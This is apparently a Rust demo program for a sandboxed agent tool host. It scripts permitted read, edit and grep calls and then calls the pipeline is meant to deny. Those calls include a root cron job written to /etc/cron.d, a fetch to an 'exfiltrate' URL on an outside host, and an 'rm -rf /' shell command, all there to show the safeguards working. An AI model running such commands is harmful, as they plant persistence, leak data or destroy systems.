//! A scripted agent session through the whole toolhost pipeline:
//! read → edit (approved) → grep → a write outside the workspace (denied)
//! → a fetch to a host not on the allow-list (denied) — printed the way a
//! user would want to see it.
//!
//! Run with `make demo` (or `cargo run -p toolhost --example demo`).

use std::sync::Arc;
use toolhost::{Host, HostConfig, find_toolbox};
use toolhost_contract::{ToolCall, ToolResult};
use toolhost_pipeline::{Approval, ApprovalRequest, Approver, SessionLog, read_log};

/// Approves after showing the bounded summary, as a human would see it.
struct ShowAndApprove;

#[async_trait::async_trait]
impl Approver for ShowAndApprove {
    async fn approve(&self, r: &ApprovalRequest) -> Approval {
        println!("  ? approval requested: {}", r.summary);
        println!("    (demo approver says yes)");
        Approval::Approved
    }
}

fn show(result: &ToolResult) {
    let ms = result.meta().timings.total_us as f64 / 1000.0;
    match result.error() {
        None => println!("  ✓ ok in {ms:.1} ms"),
        Some(e) => {
            let by = result
                .meta()
                .trace
                .denial()
                .map(|d| format!("{:?}/{}", d.stage, d.by))
                .unwrap_or_default();
            println!("  ✗ {} (decided by {by}) in {ms:.1} ms", e.code);
        }
    }
    for line in result.text().lines().take(14) {
        println!("  │ {line}");
    }
    println!();
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let workspace = tempfile::tempdir()?;
    let ws = workspace.path();
    std::fs::create_dir_all(ws.join("src"))?;
    std::fs::write(
        ws.join("src/greet.rs"),
        "/// Greets someone.\npub fn greet(name: &str) -> String {\n    format!(\"Hello, {name}!\")\n}\n\npub fn shout(name: &str) -> String {\n    greet(name).to_uppercase()\n}\n",
    )?;
    std::fs::write(
        ws.join("README.md"),
        "# demo project\n\nCall `greet` to greet.\n",
    )?;

    // The toolbox: the built-in tools with their default policies, and
    // fetch allowed to reach one host (it is not served without a network
    // allow-list).
    std::fs::write(
        ws.join("toolhost.toml"),
        r#"version = 1

[[component]]
source = "builtin:read"

[[component]]
source = "builtin:edit"

[[component]]
source = "builtin:grep"

[[component]]
source = "builtin:write"

[[component]]
source = "builtin:fetch"
[component.policy]
decision = "ask"
[component.policy.network]
allow = ["example.com:443"]
"#,
    )?;
    let host = Host::new(HostConfig {
        cache_dir: Some(std::env::temp_dir().join("toolhost-demo-cache")),
        ..HostConfig::default()
    })?;
    let started = std::time::Instant::now();
    let report = host.load(&find_toolbox(None, ws)?).await?;
    println!(
        "toolbox {}: {} tools served, loaded in {:.1} ms",
        ws.join("toolhost.toml").display(),
        report.served.len(),
        started.elapsed().as_secs_f64() * 1000.0
    );
    for c in host.components() {
        println!(
            "  {:<16} {:>8.1} ms ({:?})",
            c.path().display(),
            c.compile_time().as_secs_f64() * 1000.0,
            c.cache_outcome()
        );
    }
    let logs = tempfile::tempdir()?;
    let log_path = logs.path().join("session.jsonl");
    let pipeline = host
        .session()
        .approver(Arc::new(ShowAndApprove))
        .session_log(Arc::new(SessionLog::open(&log_path)?))
        .build();

    println!("\nworkspace {} is mounted at /workspace\n", ws.display());
    let script: &[(&str, &str, &str)] = &[
        ("read the file", "read", r#"{"path": "src/greet.rs"}"#),
        (
            "edit it (policy says ask)",
            "edit",
            r#"{"path": "src/greet.rs", "old_text": "format!(\"Hello, {name}!\")", "new_text": "format!(\"Hello, {name}! Welcome.\")"}"#,
        ),
        (
            "search the workspace",
            "grep",
            r#"{"pattern": "greet", "path": "/workspace", "context": 0}"#,
        ),
        (
            "write outside the workspace",
            "write",
            r#"{"path": "/etc/cron.d/evil", "content": "* * * * * root sh"}"#,
        ),
        (
            "overwrite a file never read",
            "write",
            r#"{"path": "README.md", "content": "gone"}"#,
        ),
        (
            "fetch a host not on the allow-list",
            "fetch",
            r#"{"url": "https://evil.example.net/exfiltrate"}"#,
        ),
        (
            "call a tool that does not exist",
            "shell",
            r#"{"cmd": "rm -rf /"}"#,
        ),
    ];
    for (i, (what, tool, args)) in script.iter().enumerate() {
        println!("{}. {what}\n  → {tool} {args}", i + 1);
        let r = pipeline
            .execute(
                ToolCall::new(format!("call_{}", i + 1), *tool, *args),
                Default::default(),
            )
            .await;
        show(&r);
    }
    let log = read_log(&log_path)?;
    println!(
        "session log: {} events in {} (value hashes, never values)",
        log.events.len(),
        log_path.display()
    );
    println!(
        "src/greet.rs is now:\n{}",
        std::fs::read_to_string(ws.join("src/greet.rs"))?
    );
    Ok(())
}
